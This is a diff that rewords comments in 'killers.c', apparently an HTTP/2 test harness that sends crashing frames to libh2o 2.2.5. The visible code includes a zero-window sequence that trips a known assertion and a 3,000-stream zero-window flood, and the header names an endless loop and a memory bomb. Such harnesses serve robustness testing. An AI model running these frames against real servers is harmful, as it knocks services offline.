@@ -1,4 +1,4 @@
-/* killers.c - what ends a process that shows libh2o 2.2.5 everything: assertions, an endless loop, a memory bomb */
+/* killers.c - frames that would end an unguarded libh2o 2.2.5: assertions, an endless loop, a memory bomb */
 /* SPDX-License-Identifier: MIT */
 #include <signal.h>
 #include <stdio.h>
@@ -15,7 +15,7 @@
 #define STEP_MS 15
 #define KILL_MS 3000
 
-/* How long the body of a response (or its first block) is: what the stream's window has to be for it to end at 0. */
+/* The length of a response's body (or first block): a stream window of that size ends at 0. */
 static uint32_t body_length(struct attack_run *run, const char *path)
 {
     struct attack_target target = target_of(run, "h2");
@@ -35,7 +35,7 @@ static uint32_t body_length(struct attack_run *run, const char *path)
     return len;
 }
 
-/* Little fits between the two sides: a write of libh2o gets stuck unless it is read. */
+/* Small buffers between the two sides: libh2o's writes get stuck unless they are read. */
 static void set_tight(struct attack_target *target)
 {
     target->receive_buffer = SMALL_BUFFER;
@@ -46,9 +46,9 @@ static void set_tight(struct attack_target *target)
  * The assertion at connection.c:332. A stream that is done with, whose window
  * is exactly 0 and whose last bytes are in a write that is stuck, waits on a
  * list for that write; libh2o asserts that it doesn't when its window opens.
- * Nothing here is a flood: a few streams of bulk make writes stuck, and the
- * victims share the next one. Which step that is isn't known, so at each one
- * of them is opened.
+ * Nothing here is a flood: a few bulk streams make writes stuck, and the
+ * victims share the next write. At which step is not known, so each step opens
+ * the window of one victim.
  */
 struct zero_window {
     const char *path;
@@ -136,7 +136,7 @@ static void reset_settings(struct attack_run *run)
 }
 
 #define FLOOD 3000
-/* The same by numbers: thousands of finished streams that nobody reads, then a window for each. */
+/* The same by sheer numbers: thousands of finished streams that are not read, then a window for each. */
 static void zero_window_flood(struct attack_run *run)
 {
     uint32_t window = body_length(run, NOWHERE_PATH);
@@ -150,7 +150,7 @@ static void zero_window_flood(struct attack_run *run)
         h2_put_hello(peer, window);
         for (uint32_t i = 0; i < FLOOD && attack_flush(peer, 300); i++) {
             h2_put_get(peer, 2 * i + 1, NOWHERE_PATH);
-            if (i % 50 == 49) /* more than that at once, and the rest are refused */
+            if (i % 50 == 49) /* if more were sent at once, the rest would be refused */
                 sleep_ms(5);
         }
         for (uint32_t i = 0; i < FLOOD; i++)
